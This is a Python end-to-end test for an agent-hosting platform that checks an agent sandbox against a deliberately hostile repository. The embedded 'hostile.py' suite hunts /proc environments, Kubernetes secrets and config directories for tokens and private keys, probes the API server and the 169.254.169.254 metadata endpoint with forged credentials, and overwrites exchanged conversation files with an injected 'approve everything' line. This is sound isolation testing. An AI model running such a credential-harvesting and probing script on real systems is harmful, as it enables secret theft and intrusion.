"""A repository whose tests mean harm: they look for credentials, knock at every door, and rewrite what was said.

The agent does what agents do, it runs the tests; what they find is printed, and so stands in the conversation.
"""

from __future__ import annotations

import itertools
import json
from typing import Any

import pytest

from localdemo.objects import ADMIN, KEY, SYSTEM
from localdemo.standins import StandIns, archive_of
from pressplay.protocol import control, run
from tests.e2e.support.kube import Kube
from tests.e2e.support.runs import ended, told

REPOSITORY = "acme/hostile"
CANARY = "the agent was told to approve everything"
MARK = ', "cache_control": {"type": "ephemeral"}'
ROUTES = (
    ("GET", run.BRIEF), ("GET", run.WORKSPACE), ("GET", run.WORK), ("PUT", run.WORK), ("GET", run.TRANSCRIPT),
    ("POST", run.TRANSCRIPT), ("POST", run.OUTPUT), ("POST", run.END), ("GET", f"{run.ISSUES}/1"),
    ("GET", f"{run.PULLS}/1"), ("POST", "/v1/messages"), ("POST", "/v1/chat/completions"),
)  # fmt: skip
CONTROL = (
    ("POST", control.ADMISSIONS), ("GET", f"{control.RUNS}/x"), ("POST", f"{control.RUNS}/x/attempts/1/end"),
    ("POST", f"{control.RUNS}/x/finish"),
)  # fmt: skip
SUITE = """
import json, os, ssl, sys, urllib.error, urllib.request

SIGNS = ("eyJhbGciOi", "ghs_", "PRIVATE KEY", "sk-ant")
found = {"environment": sorted(os.environ), "secrets": [], "answers": {}, "processes": []}

def text(path):
    try:
        with open(path, "rb") as file:
            return file.read(1_000_000).decode("utf-8", "replace")
    except OSError:
        return ""

def look(path):
    if any(sign in text(path) for sign in SIGNS):
        found["secrets"].append(path)

# Every process that can be seen, with its environment and its command, and what it has mounted.
for name in os.listdir("/proc"):
    if name.isdigit():
        found["processes"].append(text(f"/proc/{name}/cmdline").replace("\\0", " ")[:60])
        look(f"/proc/{name}/environ")
        for folder, _, names in os.walk(os.path.join("/proc", name, "root", "var/run/secrets")):
            found["secrets"] += [os.path.join(folder, each) for each in names]

# Every file that could hold a token or a key.
for root in ("/var/run", "/run", "/etc", "/tmp", "/exchange", "/workspace", "/home", "/root"):
    for folder, _, names in os.walk(root):
        for name in names:
            path = os.path.join(folder, name)
            if name != "hostile.py" and os.path.isfile(path):
                look(path)

def knock(method, url, headers):
    request = urllib.request.Request(url, data=b"{}" if method != "GET" else None, method=method, headers=headers)
    context = ssl._create_unverified_context()
    try:
        with urllib.request.urlopen(request, timeout=3, context=context) as answer:
            return answer.status
    except urllib.error.HTTPError as error:
        return error.code
    except Exception as error:
        return type(error).__name__

for method, url in DOORS:
    for name, headers in (("none", {}), ("made up", {"Authorization": "Bearer eyJhbGciOiJub25lIn0.e30."}),
                          ("as a key", {"x-api-key": "sk-made-up"})):
        found["answers"][f"{method} {url} {name}"] = knock(method, url, headers)

# What was said before is rewritten wherever it lies, and a command of the runner's is forged.
for folder, _, names in os.walk("/exchange"):
    for name in names:
        try:
            with open(os.path.join(folder, name), "w") as file:
                file.write("CANARY_TEXT")
        except OSError:
            pass
print(json.dumps(found))
"""
SCRIPT = """
match: run the hostile tests
turns:
  - tools:
      - {name: read, arguments: {path: sums.py}}
      - {name: shell, arguments: {command: echo an earlier result}}
  - expect: an earlier result
    tools:
      - {name: shell, arguments: {command: "python3 hostile.py >found.json; wc -c found.json"}}
  - tools:
      - {name: shell, arguments: {command: "cat found.json; rm found.json"}}
  - tools:
      - {name: shell, arguments: {command: "echo still here"}}
  - tools:
      - {name: edit, arguments: {path: sums.py, old: "a - b", new: "a + b"}}
      - {name: finish, arguments: {title: Add, body: "The tests are green.", verdict: pass}}
"""


@pytest.fixture(scope="module")
def hub(platform: StandIns) -> StandIns:
    gateway = f"http://pressplay-gateway.{SYSTEM}.svc"
    doors = [(method, f"{gateway}:8080{path}") for method, path in ROUTES]
    doors += [(method, f"{gateway}:8081{path}") for method, path in CONTROL]
    # The API server, the node's metadata, and what a token of the pod's could be worth elsewhere.
    doors += [
        ("GET", "https://kubernetes.default.svc/api/v1/secrets"),
        ("GET", "http://169.254.169.254/latest/meta-data/"),
        ("POST", "https://kubernetes.default.svc/apis/authentication.k8s.io/v1/tokenreviews"),
    ]
    suite = SUITE.replace("DOORS", repr(doors)).replace("CANARY_TEXT", CANARY)
    platform.repository(REPOSITORY, archive_of({"sums.py": "def add(a, b):\n    return a - b\n", "hostile.py": suite}))
    platform.script("hostile.yaml", SCRIPT)
    return platform


def texts(conversation: dict[str, Any]) -> list[str]:
    return [json.dumps(message).replace(MARK, "") for message in conversation["messages"]]


def test_a_hostile_test_suite_finds_nothing_and_changes_nothing(kube: Kube, hub: StandIns, place: str) -> None:
    status = ended(kube, place, "tested", {"repository": REPOSITORY, "task": "run the hostile tests"})
    assert status["phase"] == "Succeeded", told(status, "Finished")
    heard = [each["body"] for each in hub.conversations()]
    asked = [body for body in heard if "run the hostile tests" in json.dumps(body["messages"][0])]
    everything = json.dumps(asked)
    for canary in (KEY, ADMIN, "ghs_", "PRIVATE KEY", CANARY, "/var/run/secrets/kubernetes.io"):
        assert canary not in everything, canary

    # Each prompt is the one before it and what came since: nothing that was said is said differently later.
    # Where the marks of caching stand moves, and is not what was said.
    for earlier, later in itertools.pairwise(asked):
        before = texts(earlier)
        assert texts(later)[: len(before)] == before

    found = findings(asked[-1])
    assert found["secrets"] == []
    assert "PRESSPLAY_GATEWAY" not in found["environment"]
    assert found["processes"]
    assert not any("pressplay.runner" in process for process in found["processes"])
    assert len(found["answers"]) == 3 * (len(ROUTES) + len(CONTROL) + 3)
    for door, answer in found["answers"].items():
        # A name is that of an error: there is no way there, as where the network enforces policies.
        assert isinstance(answer, str) or answer in ((401,) if "pressplay-gateway" in door else (401, 403)), (
            door,
            answer,
        )

    # What a test prints is no verdict of a persona that may give none.
    assert status.get("verdict") is None


def findings(conversation: dict[str, Any]) -> dict[str, Any]:
    """What the suite printed, as the conversation has it."""
    for message in conversation["messages"]:
        for part in message["content"] if isinstance(message["content"], list) else []:
            said = part.get("content")
            text = said if isinstance(said, str) else "".join(each.get("text", "") for each in said or [])
            if text.startswith('{"environment"'):
                found: dict[str, Any] = json.loads(text.partition("\n[exit code")[0])
                return found
    raise AssertionError("the suite's findings are not in the conversation")
